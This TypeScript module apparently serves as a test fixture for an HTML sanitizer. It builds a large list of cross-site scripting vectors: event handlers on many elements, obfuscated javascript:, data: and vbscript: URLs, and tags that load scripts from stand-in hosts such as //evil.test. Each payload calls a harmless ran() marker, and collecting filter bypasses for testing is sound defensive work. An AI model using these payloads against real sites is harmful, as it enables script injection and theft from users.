import { tricks } from './xss-tricks.ts';

/**
 * Known ways to smuggle a script past an HTML filter. Each calls `ran()` where it can call anything. One per line;
 * signs stand for what a line cannot show: ⏎ line feed, ␍ carriage return, ⇥ tab, ␌ form feed, ␀ NUL, ␁ U+0001,
 * ␖ byte order mark, ␟ next line (U+0085), ‵ backtick.
 */
const signs: Record<string, string> = {
  ...{ '⏎': '\n', '␍': '\r', '⇥': '\t', '␌': '\f', '␀': '\0', '␁': '\u0001' },
  ...{ '␖': '\ufeff', '␟': '\u0085', '‵': '`' },
};

const lines = (text: string) =>
  text
    .split('\n')
    .map((line) => line.trim().replace(/[⏎␍⇥␌␀␁␖␟‵]/g, (sign) => signs[sign] ?? ''))
    .filter(Boolean);

/** Elements with a place (%) for a handler, and the events they get. */
const handlers: [element: string, events: string][] = [
  ['<img src=x %>', 'error loadstart'],
  ['<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" %>', 'load loadend'],
  [
    '<p %>text</p>',
    `click dblclick auxclick contextmenu mousedown mouseup mouseover mouseenter mouseleave mousemove mouseout wheel
    mousewheel pointerdown pointerup pointerover pointerenter pointermove pointerout pointerleave pointercancel
    gotpointercapture lostpointercapture pointerrawupdate touchstart touchmove touchend touchcancel copy cut paste
    beforecopy beforecut beforepaste drag dragstart dragend dragenter dragleave dragover drop scroll scrollend
    scrollsnapchange beforematch webkitanimationstart webkitanimationend webkitanimationiteration
    webkittransitionend animationstart animationend animationiteration animationcancel transitionrun
    transitionstart transitionend transitioncancel selectstart contentvisibilityautostatechange`,
  ],
  ['<p tabindex=0 autofocus %>text</p>', 'focus focusin focusout blur keydown keypress keyup'],
  ['<input autofocus value=x %>', 'focus blur input beforeinput change select invalid search selectionchange'],
  ['<div popover %>text</div>', 'beforetoggle toggle command'],
  ['<details open %><summary>x</summary>text</details>', 'toggle'],
  ['<dialog open %>text</dialog>', 'cancel close'],
  ['<form %><button>go</button><button type=reset>no</button></form>', 'submit reset formdata'],
  [
    '<body %>',
    `load unload pageshow pagehide pageswap pagereveal resize hashchange popstate storage message messageerror online
    offline beforeunload beforeprint afterprint languagechange rejectionhandled unhandledrejection scroll error`,
  ],
  [
    '<video src=x controls %><source src=x></video>',
    `error loadstart loadeddata loadedmetadata canplay canplaythrough play playing pause seeking seeked ended emptied
    stalled suspend waiting timeupdate volumechange ratechange durationchange progress abort encrypted
    enterpictureinpicture`,
  ],
  ['<audio><track default src=x %></audio>', 'error cuechange'],
  ['<svg %></svg>', 'load begin focusin'],
  ['<svg><animate attributeName=x dur=1s %></animate></svg>', 'begin end repeat'],
  ['<marquee loop=1 width=0 %>x</marquee>', 'start bounce finish'],
  ['<object data=x %></object>', 'error load'],
  ['<embed src=x %>', 'error load'],
  ['<iframe src=about:blank %></iframe>', 'load'],
  ['<link rel=stylesheet href=x %>', 'error'],
  ['<style %>p{}</style>', 'load error'],
  ['<script src=x %></script>', 'error'],
  ['<input type=image src=x %>', 'error'],
  ['<canvas %></canvas>', 'contextlost contextrestored'],
  ['<made-up %>x</made-up>', 'click mouseover'],
  ['<a href=# %>x</a>', 'click mouseover'],
  ['<table background=x %><tr><td>x</table>', 'mouseover'],
];

/** Ways to write an address that runs. */
const addresses = lines(String.raw`
  javascript:ran()
  JaVaScRiPt:ran()
  ␁javascript:ran()
  ⏎⇥ javascript:ran()
  java⏎script:ran()
  java⇥script:ran()
  java␍script:ran()
  j⏎a⏎v⏎a⏎s⏎c⏎r⏎i⏎p⏎t⏎:ran()
  java␀script:ran()
  javascript⇥:ran()
  javascript&colon;ran()
  javascript&#58;ran()
  javascript&#x3a;ran()
  javascript&#0000058ran()
  java&Tab;script:ran()
  java&NewLine;script:ran()
  &#106;avascript:ran()
  &#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:ran()
  &#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:ran()
  &#1;&#2;&#32;javascript:ran()
  &#x202e;javascript:ran()
  ␖javascript:ran()
  ␟javascript:ran()
  javascript://x.y/%0aran()
  javascript://x.y/?%0D%0Aran()
  javascript:/*x*/ran()
  javascript:void(0);ran()
  javascript:%72an()
  javascript:"<img src=x onerror=parent.ran()>"
  javascript:ran&lpar;&rpar;
  javascript&amp;colon;ran()
  javascript%3Aran()
  \x6Aavascript:ran()
  feed:javascript:ran()
  view-source:javascript:ran()
  jar:javascript:ran()
  vbscript:ran()
  VBScript:ran()
  livescript:ran()
  mocha:ran()
  data:text/html,<script>parent.ran()</script>
  data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=
  DATA:text/html;charset=utf-8,%3Cscript%3Eparent.ran()%3C/script%3E
  data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.ran()'/>
  data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>parent.ran()</script>
  blob:http://hostile.test/ran
  filesystem:http://hostile.test/ran
  //evil.test/ran
  /\evil.test/ran
  \\evil.test/ran
  /⇥/evil.test/ran
  /⏎\evil.test/ran
  http:javascript:ran()
  https:evil.test
  ws://evil.test/ran`);

/** Where an address that runs can stand. */
const places = lines(`
  <iframe src="javascript:parent.ran()"></iframe>
  <iframe srcdoc="<script>parent.ran()</script>"></iframe>
  <iframe srcdoc="&lt;img src=x onerror=&quot;parent.ran()&quot;&gt;"></iframe>
  <iframe src="data:text/html,<script>parent.ran()</script>"></iframe>
  <frameset><frame src="javascript:parent.ran()"></frameset>
  <embed src="javascript:ran()">
  <embed code="//evil.test/x.swf" allowscriptaccess=always>
  <object data="javascript:ran()"></object>
  <object data="data:text/html,<script>parent.ran()</script>"></object>
  <object type="text/x-scriptlet" data="//evil.test/x.html"></object>
  <object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:ran()></object>
  <applet code=x.class archive=//evil.test/x.jar></applet>
  <form action="javascript:ran()"><button>go</button></form>
  <form><button formaction="javascript:ran()">go</button></form>
  <form><input type=submit formaction="javascript:ran()" value=go></form>
  <form><input type=image src=x formaction="javascript:ran()"></form>
  <form id=f1></form><button form=f1 formaction="javascript:ran()">go</button>
  <isindex type=image src=1 action=javascript:ran()>
  <map name=m><area href="javascript:ran()">x</map><img usemap=#m src=x>
  <svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>
  <svg><a href="javascript:ran()"><rect width=9 height=9 /></a></svg>
  <svg><a><animate attributeName=href values=javascript:ran() /><text y=20>x</text></a></svg>
  <svg><a><set attributeName=xlink:href to=javascript:ran() /><text y=20>x</text></a></svg>
  <svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=ran() /></svg>#x" /></svg>
  <svg><image href="x" onerror="ran()" /></svg>
  <svg><script href="data:,ran()"></script></svg>
  <svg><script xlink:href="data:,ran()" /></svg>
  <svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>ran()</handler></svg>
  <math href="javascript:ran()">x</math>
  <math><maction actiontype="statusline#x" xlink:href="javascript:ran()">x</maction></math>
  <math><mtext href="javascript:ran()" xlink:show=replace>x</mtext></math>
  <base href="javascript:/a/"><a href="//../ran()">x</a>
  <base href="//evil.test/"><img src=x.png><script src=x.js></script>
  <base target="<script>ran()</script>"><a href=/x>x</a>
  <meta http-equiv=refresh content="0;url=javascript:ran()">
  <meta http-equiv=refresh content="0;url=data:text/html,<script>ran()</script>">
  <meta http-equiv=refresh content="0;url=//evil.test/">
  <meta http-equiv=Set-Cookie content="a=<script>ran()</script>">
  <meta charset=utf-7>+ADw-script+AD4-ran()+ADw-/script+AD4-
  <link rel=stylesheet href="javascript:ran()">
  <link rel=stylesheet href="data:text/css,p{background:url(//evil.test/x)}">
  <link rel=import href="data:text/html,<script>ran()</script>">
  <link rel=prefetch href="//evil.test/x"><link rel=preload as=script href="//evil.test/y">
  <link rel=modulepreload href="//evil.test/x.js">
  <script src="data:,ran()"></script>
  <script src=//evil.test/x.js></script>
  <img src="javascript:ran()">
  <img src=x srcset="//evil.test/x 1x, javascript:ran() 2x">
  <img src=x lowsrc="javascript:ran()" dynsrc="javascript:ran()" longdesc="javascript:ran()">
  <img src="/uploads/0123456789abcdef0123456789abcdef-1x1.webp/../../evil" onerror=ran()>
  <img src="/uploads/0123456789abcdef0123456789abcdef-1x1.webp?x=y#" onload=ran() onerror=ran()>
  <img src="/uploads/0123456789abcdef0123456789abcdef-1x1.webp" onload=ran() onerror=ran() alt='"onerror=ran() x="'>
  <image src=x onerror=ran()>
  <video poster="javascript:ran()" src="//evil.test/x"></video>
  <body background="javascript:ran()">
  <table background="//evil.test/x"><td background="javascript:ran()">x</table>
  <blockquote cite="javascript:ran()">x</blockquote><q cite="javascript:ran()">x</q>
  <a href="/x" ping="//evil.test/x">x</a>
  <a href="/x" target=_blank rel=opener download=x.html>x</a>
  <layer src="//evil.test/x.js"></layer><ilayer src="//evil.test/x.js"></ilayer>
  <xml id=x src="//evil.test/x.xml"></xml><span datasrc=#x datafld=c dataformatas=html></span>
  <portal src="//evil.test/x"></portal><fencedframe src="//evil.test/x"></fencedframe>`);

/** `<img src=x onerror=ran()>` and so on: every event on the elements that know it. */
const handled = handlers.flatMap(([element, events]) =>
  events.split(/\s+/).map((event) => element.replace('%', `on${event}=ran()`)),
);

export const xssVectors = [
  ...handled,
  ...addresses.map((address) => `<a href="${address.replaceAll('"', '&quot;')}">link</a>`),
  ...places,
  ...lines(tricks),
];
